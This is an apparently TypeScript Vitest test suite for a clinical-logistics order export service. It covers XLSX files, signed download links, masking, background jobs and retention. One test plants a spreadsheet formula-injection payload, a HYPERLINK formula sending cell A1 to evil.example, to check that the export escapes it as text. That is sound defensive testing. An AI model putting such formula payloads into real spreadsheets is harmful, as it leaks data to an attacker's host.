import fs from 'node:fs';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import type { DownLogSchema, ExportAnswer } from '../../../src/contract/order-exports/schemas.ts';
import { MASK } from '../orders/masking.ts';
import { cloneOrders } from '../../testing/bulk-orders.ts';
import { createUser, loginAs, signatureOf } from '../../testing/fixtures.ts';
import { createOrder, createProject } from '../../testing/order-fixtures.ts';
import { type TestApp, testApp, testStorage } from '../../testing/test-app.ts';
import type * as v from 'valibot';
import { orderPages } from './export-rows.ts';
import { ExportQueue, exportQueue, FILE_ROWS_MAX, KEEP_DAYS, PAGE_SIZE, type Progress } from './jobs.ts';
import type { ListFilter } from './list-filter.ts';

const baseFilter = { status: 'all', keyword: '' } as const;

type DownLog = v.InferOutput<typeof DownLogSchema>;

let t: TestApp;
beforeAll(async () => {
  t = await testApp();
});

/** A user of a new customer, signed in. */
async function signedIn() {
  const user = await createUser(t.deps.db);
  const token = await loginAs(t, user);
  const cuId = user.customers[0]?.cu_id as number;
  return { user, token, cuId };
}

/** Opens a signed link the way a browser does: no token. */
async function download(url: string) {
  const res = await t.app.request(url);
  return { res, bytes: new Uint8Array(await res.arrayBuffer()) };
}

/** The first sheet's rows as arrays of cell texts (row 1 the header). */
async function sheetRows(bytes: Uint8Array): Promise<string[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes.buffer as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  const rows: string[][] = [];
  sheet.eachRow((row) => {
    const values = (row.values as unknown[]).slice(1);
    rows.push(values.map((value) => (value === null || value === undefined ? '' : String(value))));
  });
  return rows;
}

/** The column of `header` in the rows' header row. */
const column = (rows: string[][], header: string) => {
  const index = rows[0]?.indexOf(header) ?? -1;
  if (index < 0) throw new Error(`no column ${header}`);
  return rows.slice(1).map((row) => row[index] ?? '');
};

describe('customer-order/xlsorder', () => {
  it('carries each order’s approval signature: name, meaning, time with its zone (Part 11 §11.50)', async () => {
    const { user, token, cuId } = await signedIn();
    await t.deps.db
      .updateTable('user_customers')
      .set({ can_approve: true })
      .where('uid', '=', user.uid)
      .execute();
    const approved = await createOrder(t.deps.db, cuId, { status: 'pending_approval' });
    const plain = await createOrder(t.deps.db, cuId);
    const signed = await t.call('customer-order/auditing', {
      token,
      body: { id: approved.id, pass: true, version: 1, signature: signatureOf(user) },
    });
    expect(signed.code).toBe(0);
    const res = await t.call<ExportAnswer>('customer-order/xlsorder', { token });
    const rows = await sheetRows((await download(res.data.url as string)).bytes);
    const numbers = column(rows, 'Order No.');
    const signatures = column(rows, 'Approval e-signature');
    expect(signatures[numbers.indexOf(approved.order_no)]).toMatch(
      / · Approval · [\d-]+ [\d:]+ China time \(UTC\+8\)$/,
    );
    expect(signatures[numbers.indexOf(plain.order_no)] ?? '').toBe('');
  });

  it('answers a small set as a file: masked as the list masks, formulas kept as text, Chinese intact', async () => {
    const { token, cuId } = await signedIn();
    const project = await createProject(t.deps.db, cuId, { name: '肺癌三期临床研究' });
    const plain = await createOrder(t.deps.db, cuId, { pr_id: project.pr_id });
    const dtp = await createOrder(t.deps.db, cuId, {
      is_dtp: 1,
      to_goodstype: 1,
      order_type: 'dtp',
      to_contact: '患者张三',
      to_phone: '13812345678',
    });
    const attack = await createOrder(t.deps.db, cuId, {
      from_company: '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
      from_contact: '+1 555',
      remark: '@SUM(1+1)',
    });
    const res = await t.call<ExportAnswer>('customer-order/xlsorder', { token });
    expect(res.code).toBe(0);
    expect(res.data).toMatchObject({ mode: 'file', rows: 3 });
    expect(res.data.url).toMatch(/^\/api\/customer-order\/down-file\.html\?id=\d+&expires=\d+&signature=/);

    const { res: file, bytes } = await download(res.data.url as string);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="Orders [\d-]+\.xlsx"/);
    expect(file.headers.get('x-content-type-options')).toBe('nosniff');
    expect(file.headers.get('cache-control')).toBe('private, no-store');

    const rows = await sheetRows(bytes);
    expect(rows[0]?.slice(0, 3)).toEqual(['Order No.', 'Status', 'Order Type']);
    const numbers = column(rows, 'Order No.');
    // Newest first, as the list.
    expect(numbers).toEqual([attack.order_no, dtp.order_no, plain.order_no]);
    const consignee = column(rows, 'Consignee');
    const contact = column(rows, 'Consignee Contact');
    const phone = column(rows, 'Consignee Phone');
    expect([consignee[1], contact[1], phone[1]]).toEqual([MASK, MASK, MASK]);
    expect(consignee[2]).toBe(plain.to_company);
    expect(column(rows, 'Project')[2]).toBe('肺癌三期临床研究');
    expect(column(rows, 'Status')[2]).toBe('Pending Confirmation');
    expect(column(rows, 'Shipper')[0]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"点击")`);
    expect(column(rows, 'Shipper Contact')[0]).toBe("'+1 555");
    expect(column(rows, 'Remark')[0]).toBe("'@SUM(1+1)");

    // No cell of the file is a formula.
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes.buffer as ArrayBuffer);
    workbook.worksheets[0]?.eachRow((row) =>
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)),
    );
  });

  it('writes Chinese headers and labels for a Chinese reader', async () => {
    const { token, cuId } = await signedIn();
    await createOrder(t.deps.db, cuId, { status: 'finished', temp_class: 'frozen' });
    const res = await t.call<ExportAnswer>('customer-order/xlsorder', {
      token,
      headers: { 'accept-language': 'zh-CN' },
    });
    const { res: file, bytes } = await download(res.data.url as string);
    expect(decodeURIComponent(file.headers.get('content-disposition') ?? '')).toContain('订单列表');
    const rows = await sheetRows(bytes);
    expect(rows[0]?.slice(0, 2)).toEqual(['订单号', '状态']);
    expect(column(rows, '状态')).toEqual(['已完成']);
    expect(column(rows, '温度类别')).toEqual(['冷冻 −25…−15 °C']);
  });

  it('holds exactly what the list filter selects, and only the session customer’s orders', async () => {
    const { token, cuId } = await signedIn();
    const other = await signedIn();
    const cancelled = await createOrder(t.deps.db, cuId, { status: 'cancelled', to_company: '北京协和医院' });
    await createOrder(t.deps.db, cuId, { status: 'cancelled', to_company: '上海瑞金医院' });
    await createOrder(t.deps.db, cuId, { status: 'finished', to_company: '北京协和医院' });
    await createOrder(t.deps.db, other.cuId, { status: 'cancelled', to_company: '北京协和医院' });
    const res = await t.call<ExportAnswer>('customer-order/xlsorder', {
      token,
      query: { status: 'cancelled', keyword: '协和' },
    });
    expect(res.data.rows).toBe(1);
    const rows = await sheetRows((await download(res.data.url as string)).bytes);
    expect(column(rows, 'Order No.')).toEqual([cancelled.order_no]);
  });

  it('with ids, holds the selected orders only, whatever the filters, and never another customer’s', async () => {
    const { token, cuId } = await signedIn();
    const other = await signedIn();
    const a = await createOrder(t.deps.db, cuId, { status: 'finished' });
    const b = await createOrder(t.deps.db, cuId, { status: 'cancelled' });
    await createOrder(t.deps.db, cuId);
    const theirs = await createOrder(t.deps.db, other.cuId);
    const res = await t.call<ExportAnswer>('customer-order/xlsorder', {
      token,
      query: { ids: `${a.id},${b.id},${theirs.id}`, status: 'pending_confirm', sort: 'order_no' },
    });
    expect(res.data.rows).toBe(2);
    const rows = await sheetRows((await download(res.data.url as string)).bytes);
    expect(column(rows, 'Order No.')).toEqual([a.order_no, b.order_no].sort());
    for (const ids of ['', '1,,2', '0', '-1', `${a.id},${a.id}`, 'x']) {
      const bad = await t.call('customer-order/xlsorder', { token, query: { ids } });
      expect([ids, bad.code]).toEqual([ids, 422]);
    }
  });

  it('refuses a link altered or expired, and a deleted export’s link', async () => {
    const { token, cuId } = await signedIn();
    await createOrder(t.deps.db, cuId);
    const res = await t.call<ExportAnswer>('customer-order/xlsorder', { token });
    const url = res.data.url as string;
    const altered = url.replace(/id=(\d+)/, (_, id) => `id=${Number(id) + 1}`);
    const refused = await t.app.request(altered);
    expect(await refused.json()).toMatchObject({ code: 403 });
    t.advance(11 * 60_000);
    expect(await (await t.app.request(url)).json()).toMatchObject({ code: 403 });
    const fresh = await t.call<DownLog>('customer-order/down-log', { token });
    const job = fresh.data.list[0];
    expect(job?.url).toBeTruthy();
    expect((await download(job?.url as string)).res.status).toBe(200);
    expect(
      (await t.call('customer-order/del-down-log', { token, query: { id: String(job?.id) } })).code,
    ).toBe(0);
    expect(await (await t.app.request(job?.url as string)).json()).toMatchObject({ code: 404 });
  });
});

describe('customer-order/xlsjinyu', () => {
  it('writes one row per goods line in the central-lab template, with boxes and loggers', async () => {
    const { token, cuId } = await signedIn();
    const project = await createProject(t.deps.db, cuId, { protocol_no: 'LC-2026-001' });
    const order = await createOrder(t.deps.db, cuId, {
      pr_id: project.pr_id,
      order_type: 'sample',
      to_goodstype: 2,
      temp_class: 'deep_frozen',
      to_company: '中心实验室（上海）',
      pickup_at: '2026-11-20T01:30:00Z',
      goods: [
        { goods_type: 2, name: '血浆样本', code: 'PK-01', batch_no: 'S-1', quantity: 4, unit: '管' },
        { goods_type: 2, name: '血清样本', code: 'PK-02', batch_no: 'S-2', quantity: 2, unit: '管' },
      ],
      boxes: [
        { box_type: '干冰箱', logger_id: 'LG-A1', weight_kg: 8 },
        { box_type: '干冰箱', logger_id: 'LG-A2', weight_kg: 8 },
      ],
    });
    const res = await t.call<ExportAnswer>('customer-order/xlsjinyu', {
      token,
      headers: { 'accept-language': 'zh-CN' },
    });
    expect(res.data).toMatchObject({ mode: 'file', rows: 1 });
    const rows = await sheetRows((await download(res.data.url as string)).bytes);
    expect(rows).toHaveLength(3);
    expect(column(rows, '订单号')).toEqual([order.order_no, order.order_no]);
    expect(column(rows, '方案号')).toEqual(['LC-2026-001', 'LC-2026-001']);
    expect(column(rows, '样本/货物名称')).toEqual(['血浆样本', '血清样本']);
    expect(column(rows, '数量')).toEqual(['4', '2']);
    expect(column(rows, '温度类别')[0]).toBe('深冷 ≤ −60 °C');
    expect(column(rows, '取件时间')[0]).toBe('2026-11-20 09:30');
    expect(column(rows, '温度记录仪')[0]).toBe('LG-A1, LG-A2');
    expect(column(rows, '收样单位')[0]).toBe('中心实验室（上海）');
  });
});

describe('export jobs and the download centre', () => {
  it('makes a large export a job that runs in the background with its progress, then lists it with a link', async () => {
    const { token, cuId } = await signedIn();
    const source = await createOrder(t.deps.db, cuId, { is_dtp: 1, to_goodstype: 1, to_contact: '患者李四' });
    await cloneOrders(t.deps.db, source.id, FILE_ROWS_MAX + 500);
    const seen: Array<{ progress: Progress; listed: DownLog['list'][number] | undefined }> = [];
    const stop = exportQueue(t.deps).listen(async (progress) => {
      const log = await t.call<DownLog>('customer-order/down-log', { token });
      seen.push({ progress, listed: log.data.list.find((job) => job.id === progress.id) });
    });
    try {
      const res = await t.call<ExportAnswer>('customer-order/xlsorder', { token });
      expect(res.data).toMatchObject({ mode: 'job', url: null, rows: FILE_ROWS_MAX + 501 });
      const queued = await t.call<DownLog>('customer-order/down-log', { token });
      expect(queued.data.list[0]).toMatchObject({ id: res.data.job_id, kind: 'xlsorder', url: null });
      await exportQueue(t.deps).idle();
      // After each page of PAGE_SIZE orders, the last page the rest.
      const pages = Array.from({ length: Math.ceil(2501 / PAGE_SIZE) }, (_, i) =>
        Math.min((i + 1) * PAGE_SIZE, 2501),
      );
      expect(pages.length).toBeGreaterThan(2);
      expect(seen.map((s) => s.progress.done)).toEqual(pages);
      expect(seen[0]?.listed).toMatchObject({ status: 'running', done: PAGE_SIZE, total: 2501, url: null });
      const done = await t.call<DownLog>('customer-order/down-log', { token });
      const job = done.data.list[0];
      expect(job).toMatchObject({ status: 'done', done: 2501, total: 2501, error: null });
      expect(job?.size).toBeGreaterThan(10_000);
      const rows = await sheetRows((await download(job?.url as string)).bytes);
      expect(rows).toHaveLength(2502);
      expect(new Set(column(rows, 'Consignee Contact'))).toEqual(new Set([MASK]));
    } finally {
      stop();
    }
  }, 60_000);

  it('makes a failed export again with its filter; only a failed one, and only the owner’s', async () => {
    const { token, cuId } = await signedIn();
    const project = await createProject(t.deps.db, cuId);
    await createOrder(t.deps.db, cuId, { pr_id: project.pr_id });
    await createOrder(t.deps.db, cuId);
    const [me] = await t.deps.db
      .selectFrom('user_customers')
      .select('uid')
      .where('cu_id', '=', cuId)
      .execute();
    // an export that failed (the disk was full, the server stopped …)
    const failed = await t.deps.db
      .insertInto('export_jobs')
      .values({
        cu_id: cuId,
        uid: me?.uid as number,
        kind: 'xlsorder',
        filter: JSON.stringify({ ...baseFilter, pr_id: project.pr_id }),
        status: 'failed',
        name: 'orders.xlsx',
        storage_key: null,
        error: 'The export failed, please try again',
      })
      .returning('id')
      .executeTakeFirstOrThrow();

    const other = await signedIn();
    expect(
      (await t.call('customer-order/retry-down-log', { token: other.token, body: { id: failed.id } })).code,
    ).toBe(404);
    const res = await t.call('customer-order/retry-down-log', { token, body: { id: failed.id } });
    expect([res.code, res.message]).toEqual([0, 'ok']);
    await exportQueue(t.deps).idle();
    const log = await t.call<DownLog>('customer-order/down-log', { token });
    const job = log.data.list.find((j) => j.id === failed.id);
    expect(job).toMatchObject({ status: 'done', error: null, total: 1, done: 1 });
    const rows = await sheetRows((await download(job?.url as string)).bytes);
    expect(rows).toHaveLength(2);

    const again = await t.call('customer-order/retry-down-log', { token, body: { id: failed.id } });
    expect([again.code, again.message]).toEqual([409, 'Only a failed export can be made again']);
  });

  it('lists only the user’s own jobs; another customer’s job is 404 and stays', async () => {
    const mine = await signedIn();
    const theirs = await signedIn();
    await createOrder(t.deps.db, theirs.cuId);
    const made = await t.call<ExportAnswer>('customer-order/xlsorder', { token: theirs.token });
    const id = String(made.data.job_id);
    expect((await t.call<DownLog>('customer-order/down-log', { token: mine.token })).data).toEqual({
      list: [],
      total: 0,
    });
    const refused = await t.call('customer-order/del-down-log', { token: mine.token, query: { id } });
    expect(refused.code).toBe(404);
    const still = await t.call<DownLog>('customer-order/down-log', { token: theirs.token });
    expect(still.data.list.map((job) => job.id)).toEqual([made.data.job_id]);
  });

  it('deletes a job with its file', async () => {
    const { token, cuId } = await signedIn();
    await createOrder(t.deps.db, cuId);
    const made = await t.call<ExportAnswer>('customer-order/xlsorder', { token });
    const row = await t.deps.db
      .selectFrom('export_jobs')
      .select('storage_key')
      .where('id', '=', made.data.job_id as number)
      .executeTakeFirstOrThrow();
    expect(() => t.deps.storage.open(row.storage_key as string)).not.toThrow();
    const res = await t.call('customer-order/del-down-log', {
      token,
      query: { id: String(made.data.job_id) },
    });
    expect(res.code).toBe(0);
    expect(() => t.deps.storage.open(row.storage_key as string)).toThrow();
    expect((await t.call<DownLog>('customer-order/down-log', { token })).data.total).toBe(0);
    const again = await t.call('customer-order/del-down-log', {
      token,
      query: { id: String(made.data.job_id) },
    });
    expect(again.code).toBe(404);
  });
});

describe('a run that ends before its job is done', () => {
  /** Files in the test storage (a run that ends must leave no part of a workbook behind). */
  const storedFiles = () =>
    fs.readdirSync(testStorage().root, { recursive: true, withFileTypes: true }).filter((e) => e.isFile())
      .length;

  /** A customer with PAGE_SIZE + 100 orders (two pages) and a queued export of them. */
  async function twoPageJob() {
    const { user, token, cuId } = await signedIn();
    const source = await createOrder(t.deps.db, cuId);
    await cloneOrders(t.deps.db, source.id, PAGE_SIZE + 100);
    const job = await t.deps.db
      .insertInto('export_jobs')
      .values({
        cu_id: cuId,
        uid: user.uid,
        kind: 'xlsorder',
        filter: JSON.stringify({ ...baseFilter, lang: 'en' }),
        name: 'orders.xlsx',
        storage_key: null,
        error: null,
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    const row = () =>
      t.deps.db
        .selectFrom('export_jobs')
        .select(['status', 'done', 'claim', 'lease_until', 'attempts', 'storage_key'])
        .where('id', '=', job.id)
        .executeTakeFirstOrThrow();
    return { id: job.id, token, row };
  }

  it('stops at its next page when another process took its job over, and keeps nothing', async () => {
    const { id, row } = await twoPageJob();
    const files = storedFiles();
    // this process's runner; "another process" takes the job over after the first page (as
    // claimNextJob does once a stalled run's lease ran out)
    const queue = new ExportQueue(t.deps);
    const seen: number[] = [];
    queue.listen(async (progress) => {
      seen.push(progress.done);
      await t.deps.db
        .updateTable('export_jobs')
        .set({ claim: 'another-process', done: 0, attempts: 2 })
        .where('id', '=', id)
        .execute();
    });
    queue.wake();
    await queue.idle();
    expect(seen).toEqual([PAGE_SIZE]);
    // the other process's claim, untouched: no page, no finish, no file of the lost run
    expect(await row()).toMatchObject({
      status: 'running',
      claim: 'another-process',
      done: 0,
      attempts: 2,
      storage_key: null,
    });
    expect(storedFiles()).toBe(files);
  });

  it('goes back to the queue when its process stops, not counted as an attempt, and is then made whole', async () => {
    const { token, row } = await twoPageJob();
    const files = storedFiles();
    const stopping = new ExportQueue(t.deps);
    let stopped: Promise<void> | undefined;
    stopping.listen(() => {
      stopped ??= stopping.stop();
    });
    stopping.wake();
    await stopping.idle();
    await stopped;
    expect(await row()).toMatchObject({
      status: 'queued',
      done: 0,
      claim: null,
      lease_until: null,
      attempts: 0,
      storage_key: null,
    });
    expect(storedFiles()).toBe(files);

    const next = new ExportQueue(t.deps);
    next.wake();
    await next.idle();
    expect(await row()).toMatchObject({ status: 'done', done: PAGE_SIZE + 101, attempts: 1 });
    const log = await t.call<DownLog>('customer-order/down-log', { token });
    const rows = await sheetRows((await download(log.data.list[0]?.url as string)).bytes);
    expect(rows).toHaveLength(PAGE_SIZE + 102);
  }, 30_000);
});

describe('keeping exports', () => {
  it('deletes the user’s exports older than 30 days, with their files, before a new export', async () => {
    const { user, token, cuId } = await signedIn();
    await createOrder(t.deps.db, cuId);
    const old = await t.call<ExportAnswer>('customer-order/xlsorder', { token });
    const row = await t.deps.db
      .selectFrom('export_jobs')
      .select('storage_key')
      .where('id', '=', old.data.job_id as number)
      .executeTakeFirstOrThrow();
    // Sessions end after 7 days: the user signs in again each time.
    t.advance(KEEP_DAYS * 24 * 60 * 60_000 - 60_000);
    const second = await loginAs(t, user);
    const recent = await t.call<ExportAnswer>('customer-order/xlsorder', { token: second });
    expect((await t.call<DownLog>('customer-order/down-log', { token: second })).data.total).toBe(2);
    expect(() => t.deps.storage.open(row.storage_key as string)).not.toThrow();
    t.advance(2 * 60_000);
    const third = await loginAs(t, user);
    const fresh = await t.call<ExportAnswer>('customer-order/xlsorder', { token: third });
    const listed = await t.call<DownLog>('customer-order/down-log', { token: third });
    expect(listed.data.list.map((job) => job.id)).toEqual([fresh.data.job_id, recent.data.job_id]);
    expect(() => t.deps.storage.open(row.storage_key as string)).toThrow();
  });
});

describe('the export’s order and filter are the list’s', () => {
  it('pages through the same orders in the same order as customer-order/index, for every sort', async () => {
    const { token, cuId } = await signedIn();
    const at = (hour: number) => new Date(Date.UTC(2026, 10, 20, hour)).toISOString();
    const specs = [
      { status: 'finished', pickup_at: at(1) },
      { status: 'pending_approval', pickup_at: null },
      { status: 'cancelled', pickup_at: at(1) },
      { status: 'pending_confirm', pickup_at: at(3) },
      { status: 'not_finished', pickup_at: null },
      { status: 'finished', pickup_at: at(2) },
      { status: 'pending_confirm', pickup_at: at(1) },
    ] as const;
    for (const spec of specs) await createOrder(t.deps.db, cuId, { ...spec, status: spec.status });
    for (const sort of [
      '-created_at',
      'created_at',
      'status',
      '-status',
      'pickup_at',
      '-pickup_at',
      'order_no',
    ]) {
      const list = await t.call<{ list: Array<{ order_no: string }> }>('customer-order/index', {
        token,
        query: { sort, limit: '100' },
      });
      const listed = list.data.list.map((o) => o.order_no);
      expect(listed).toHaveLength(specs.length);
      const exported: string[] = [];
      for await (const page of orderPages(t.deps.db, cuId, { ...baseFilter, sort } as ListFilter, {
        pageSize: 2,
      }))
        exported.push(...page.orders.map((o) => o.order_no));
      expect(exported, sort).toEqual(listed);
    }
  });
});
